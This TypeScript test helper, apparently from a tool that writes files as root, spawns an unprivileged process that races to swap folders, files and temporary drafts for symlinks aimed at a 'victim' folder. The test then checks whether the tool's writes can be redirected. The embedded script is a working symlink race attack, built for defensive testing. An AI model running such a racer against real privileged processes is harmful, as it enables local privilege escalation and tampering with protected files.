/**
 * A user who attacks what root writes: swaps folders, files and drafts for links, as fast as a process can, until stopped.
 *
 * `home` belongs to the user. In it, `d` is now a folder and now a link to the victim's folder, `f` now a file and now a
 * link to the victim's file, and whatever the product makes beside them is moved away and replaced by a link.
 */
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import {
  chmodSync,
  chownSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'

const attacker = 65_534

const program = `
const fs = require('fs')
const [home, victim] = process.argv.slice(1)
process.chdir(home)
const t = (f) => { try { f() } catch {} }
const swap = (name, target) => {
  t(() => fs.symlinkSync(target, name + '.link'))
  // what was made while the name was free
  t(() => { if (fs.existsSync(name + '.real') && !fs.lstatSync(name).isSymbolicLink()) fs.renameSync(name, '.coxswain.' + Math.random()) })
  t(() => fs.renameSync(name, name + '.real'))
  t(() => fs.renameSync(name + '.link', name))
}
const back = (name) => {
  t(() => { if (fs.lstatSync(name).isSymbolicLink()) fs.unlinkSync(name) })
  t(() => fs.renameSync(name + '.real', name))
}
const drafts = (folder) => {
  let names = []
  t(() => { names = fs.readdirSync(folder).filter((name) => name.startsWith('.coxswain') || name.endsWith('.coxswain')) })
  for (const name of names) {
    const path = folder + '/' + name
    t(() => { if (fs.lstatSync(path).isSymbolicLink()) return
      const is = fs.lstatSync(path).isDirectory()
      fs.renameSync(path, path + '.' + Math.random())
      fs.symlinkSync(is ? victim : victim + '/f', path) })
  }
}
const tidy = () => { for (const folder of ['.', 'd', 'd.real', 'd/sub', 'd.real/sub']) {
  let names = []
  t(() => { names = fs.readdirSync(folder) })
  for (const name of names) if (name.startsWith('.coxswain')) t(() => fs.rmSync(folder + '/' + name, { recursive: true })) } }
// now and then the attacker waits: what takes long is then met in the middle, too
const still = new Int32Array(new SharedArrayBuffer(4))
const wait = () => { if (Math.random() < 0.1) Atomics.wait(still, 0, 0, Math.random() ** 3 * 800) }
process.stdout.write('ready')
for (let round = 0; ; round += 1) {
  swap('d', victim); swap('d/f', victim + '/f'); swap('f', victim + '/f'); swap('d/sub', victim + '/sub')
  wait()
  drafts('.'); drafts('d'); drafts('d/sub')
  back('d'); back('f'); back('d/f'); back('d/sub')
  drafts('.'); drafts('d'); drafts('d/sub')
  const missing = (name) => !fs.existsSync(name) && !fs.existsSync(name + '.real')
  for (const name of ['d', 'd/sub']) t(() => { if (missing(name)) fs.mkdirSync(name) })
  for (const name of ['f', 'd/f']) t(() => { if (missing(name)) fs.writeFileSync(name, 'mine') })
  wait()
  if (round % 50 === 0) tidy()
}
`

export interface Racer {
  /** The attacker's folder. */
  readonly home: string
  /** What must not change: owner, mode, and content of everything in the victim's folder, as text. */
  readonly victim: () => string
  /** Stops the attacker. */
  readonly stop: () => Promise<void>
}

const told = (path: string): string[] => {
  const { uid, gid, mode } = lstatSync(path)
  const line = `${path} ${uid}:${gid} ${mode.toString(8)}`
  if ((mode & 0o170_000) === 0o120_000) return [`${line} -> ${readlinkSync(path)}`]
  if ((mode & 0o170_000) !== 0o040_000) return [`${line} ${readFileSync(path, 'utf8')}`]
  return [
    line,
    ...readdirSync(path)
      .toSorted()
      .flatMap((name) => told(join(path, name))),
  ]
}

/** Starts the attack in a folder that is there and that others can enter. */
export const startRacer = async (folder: string): Promise<Racer> => {
  const [home, victim] = [join(folder, 'home'), join(folder, 'victim')]
  mkdirSync(home)
  chownSync(home, attacker, attacker)
  for (const path of [victim, join(victim, 'sub')]) mkdirSync(path)
  for (const path of ['f', 'sub/f', 'name']) writeFileSync(join(victim, path), 'precious\n')
  chmodSync(join(victim, 'f'), 0o640)
  const child = spawn(process.execPath, ['-e', program, home, victim], {
    uid: attacker,
    gid: attacker,
    stdio: ['ignore', 'pipe', 'inherit'],
  })
  await once(child.stdout, 'data')
  return {
    home,
    victim: () => told(victim).join('\n'),
    stop: async () => {
      const ended = once(child, 'exit')
      child.kill('SIGKILL')
      await ended
    },
  }
}
